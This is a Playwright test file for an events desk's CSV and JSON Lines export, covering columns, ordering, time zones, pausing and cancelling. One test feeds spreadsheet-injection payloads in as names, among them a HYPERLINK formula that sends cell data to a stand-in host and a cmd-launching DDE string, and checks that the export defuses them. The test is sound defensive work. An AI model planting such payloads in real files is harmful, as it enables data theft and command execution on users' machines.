// Export: what is seen is what is written.

import { readFile } from 'node:fs/promises';
import { booking, invoice } from '../support/bodies';
import { parseCsv, records } from '../support/csv';
import type { Desk } from '../support/desk';
import { ABD, JOSE, morning, play, TANAKA } from '../support/space';
import { expect, test } from '../support/test';

/** What `query --json` and JSON Lines tell of an event, as far as it is looked at here. */
interface Line {
  happened_at: string;
  action: string;
  person: string | null;
  sentence: string;
  amount: string | null;
  flags: string[];
  body: unknown;
}

/** Presses the button of the open dialog; name and text of the file that the browser got. */
async function fetched(desk: Desk): Promise<{ name: string; text: string }> {
  const downloading = desk.page.waitForEvent('download');
  await desk.page.getByTestId('export-start').click();
  const download = await downloading;
  const text = await readFile(await download.path(), 'utf8');
  await expect(desk.page.getByTestId('export-state')).toHaveAttribute('data-state', 'done');
  return { name: download.suggestedFilename(), text };
}

/** Which columns are ticked, in their order. */
async function ticked(desk: Desk): Promise<string[]> {
  const boxes = await desk.page
    .getByTestId('export-columns')
    .locator('input:checked')
    .evaluateAll((all) => all.map((box) => box.getAttribute('data-testid') ?? ''));
  return boxes.map((id) => id.replace('column-', ''));
}

test('a CSV of what is seen', async ({ desk, page, platform }) => {
  const events = morning();
  await play(platform, events);
  await desk.open();
  await desk.has(events.length);
  await desk.press('e');
  await expect(page.getByTestId('export-rows')).toContainText(`${events.length} events in all`);
  const columns = await ticked(desk);
  expect(columns.slice(0, 5)).toEqual(['happened_at', 'action', 'sentence', 'location', 'person']);
  const { name, text } = await fetched(desk);
  expect(name).toMatch(/\.csv$/);
  // The mark that Excel needs for accents.
  expect(text.codePointAt(0)).toBe(0xfeff);
  const [header] = parseCsv(text.slice(1));
  expect(header).toEqual(columns);
  const rows = records(text.slice(1));
  expect(rows.map((row) => row.person)).toEqual(events.map((event) => event.person));
  expect(rows.map((row) => row.action)).toEqual(events.map((event) => event.action));
  // In the time of the place, and the same moment.
  expect(rows[0]?.happened_at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?\+0[12]:00$/);
  expect(rows.map((row) => Date.parse(row.happened_at ?? ''))).toEqual(
    events.map((event) => Date.parse(String(event.body.UpdatedOn))),
  );
  const sentences = await desk.rows.getByTestId('row-sentence').allInnerTexts();
  // A file may be read in another year: days in it are whole.
  const whole = sentences.map((text) =>
    text.trim().replace(/\b(?:Mon|Tue|Wed|Thu|Fri|Sat|Sun) (\d+ \w{3})\b/, '$1 2026'),
  );
  expect(rows.map((row) => row.sentence)).toEqual(whole);
});

test('chosen columns in a chosen order, filtered, oldest first, in UTC', async ({
  desk,
  page,
  platform,
}) => {
  const events = morning();
  await play(platform, events);
  await desk.open();
  await desk.search('category:billing');
  const billing = events.filter((event) => event.category === 'billing');
  await desk.has(billing.length, events.length);
  await page.getByTestId('export').click();
  await expect(page.getByTestId('export-rows')).toContainText(`${billing.length} events`);
  await expect(page.getByTestId('export-rows')).toContainText('match the filter');

  await page.getByRole('button', { name: 'None', exact: true }).click();
  await expect(page.getByTestId('export-start')).toBeDisabled();
  await expect(page.getByTestId('export-dialog')).toContainText('Choose at least one column');
  for (const column of ['happened_at', 'amount', 'currency', 'person']) {
    await page.getByTestId(`column-${column}`).check();
  }
  // To the front, with the keyboard.
  await page.getByTestId('column-person').focus();
  const order = await ticked(desk);
  for (let i = order.indexOf('person'); i > 0; i--) {
    // Other columns, not ticked, may lie between.
    while ((await ticked(desk)).indexOf('person') === i) await desk.press('Alt+ArrowUp');
  }
  await expect(page.getByTestId('column-person')).toBeFocused();
  await page.getByTestId('export-order').selectOption({ label: 'Oldest first' });
  await page.getByTestId('export-zone').selectOption('UTC');
  await page.getByTestId('export-bom').uncheck();
  const { text } = await fetched(desk);
  const [header] = parseCsv(text);
  expect(header).toEqual(['person', 'happened_at', 'amount', 'currency']);
  const rows = records(text);
  const expected = billing.toReversed();
  expect(rows.map((row) => row.person)).toEqual(expected.map((event) => event.person));
  expect(rows.map((row) => row.amount)).toEqual(expected.map(() => '354.50'));
  expect(new Set(rows.map((row) => row.currency))).toEqual(new Set(['GBP']));
  for (const [i, row] of rows.entries()) {
    expect(row.happened_at).toMatch(/Z$/);
    expect(Date.parse(row.happened_at ?? '')).toBe(Date.parse(String(expected[i]?.body.UpdatedOn)));
  }

  // The choice of columns is remembered.
  await desk.press('Escape', 'e');
  await expect(page.getByTestId('export-rows')).toContainText(`${billing.length} events`);
  expect(await ticked(desk)).toEqual(header);
});

test('no cell is a formula, no line breaks', async ({ desk, platform }) => {
  const now = Date.now();
  const names = [
    '=HYPERLINK("http://stranger.test/?"&A1,"Click")',
    '+44 20 7946 0011',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd',
    '\t=1+1',
    ' =1+1',
    '＝1+1',
    'a "quoted" name, with a comma',
    'two\r\nlines',
    JOSE,
    TANAKA,
    ABD,
    '🙂',
  ];
  for (const [i, person] of names.entries()) {
    await platform.send('BookingCreate', booking({ person, at: now - i }));
  }
  await platform.send('CoworkerInvoiceCreditNote', invoice({ total: -5, at: now - 60_000 }));
  await desk.open();
  await desk.has(names.length + 1);
  await desk.press('e');
  const { text } = await fetched(desk);
  const rows = records(text.slice(1));
  expect(rows).toHaveLength(names.length + 1);
  for (const [i, row] of rows.entries()) {
    for (const [column, cell] of Object.entries(row)) {
      // A number may be negative; a text may not begin like a formula, seen or unseen.
      if (column === 'amount') continue;
      expect(cell, column).not.toMatch(/^[\s\u200B-\u200F\uFEFF]*[=+\-@＝＋－＠\t\r]/);
    }
    const name = names[i]?.replace(/\s+/g, ' ').trim();
    if (name) expect(row.person, 'nothing else is lost').toContain(name);
  }
  expect(rows.at(-1)?.amount).toMatch(/^-5(\.0+)?$/);
});

test('JSON Lines, with the bodies', async ({ desk, page, platform, program }) => {
  const events = morning();
  await play(platform, events);
  await desk.open();
  await desk.has(events.length);
  await desk.press('e');
  await page.getByTestId('export-jsonl').check();
  await expect(page.getByTestId('export-bom')).toBeDisabled();
  await page.getByRole('button', { name: 'All', exact: true }).click();
  await page.getByTestId('export-body').check();
  const { name, text } = await fetched(desk);
  expect(name).toMatch(/\.jsonl$/);
  expect(text.endsWith('\n')).toBe(true);
  const lines = text
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Line);
  expect(lines.map((line) => line.person)).toEqual(events.map((event) => event.person));
  for (const [i, line] of lines.entries()) {
    expect(line.happened_at).toMatch(/Z$/);
    // As received it is an array of one; the event's own object says the same.
    expect([line.body].flat()).toMatchObject([{ Id: events[i]?.body.Id }]);
  }
  // The command line tells the same.
  const told = program
    .run(['query', '--json', '--body', '--limit', '100'])
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Line);
  const flat = (all: Line[]) => all.map((line) => ({ ...line, body: [line.body].flat() }));
  expect(flat(lines)).toEqual(flat(told));
});

test('an export holds what is seen, not what came since', async ({ desk, page, platform }) => {
  const events = morning();
  await play(platform, events);
  await desk.open();
  await desk.has(events.length);
  await desk.press('p');
  await desk.stands('paused');
  await platform.send('BookingCreate', booking({ person: 'Too Late' }));
  await expect(desk.pill).toHaveText('1 new');
  await desk.press('e');
  await expect(page.getByTestId('export-rows')).toContainText(
    `${events.length} events in all, as the list stands now`,
  );
  const { text } = await fetched(desk);
  expect(text).not.toContain('Too Late');
  expect(records(text.slice(1))).toHaveLength(events.length);
});

test('cancelled, nothing is written', async ({ desk, page, platform }) => {
  await platform.send('BookingCreate', booking());
  await desk.open();
  let downloads = 0;
  page.on('download', () => (downloads += 1));
  for (const close of ['Cancel', 'Close', 'Escape']) {
    await desk.press('e');
    const dialog = page.getByTestId('export-dialog');
    await expect(page.getByTestId('export-rows')).toContainText('1 event in all');
    if (close === 'Escape') await desk.press('Escape');
    else await dialog.getByRole('button', { name: close }).click();
    await expect(dialog).toBeHidden();
  }
  // Keys work again, and the next export is the first that is written.
  await desk.press('e');
  await fetched(desk);
  expect(downloads).toBe(1);
});
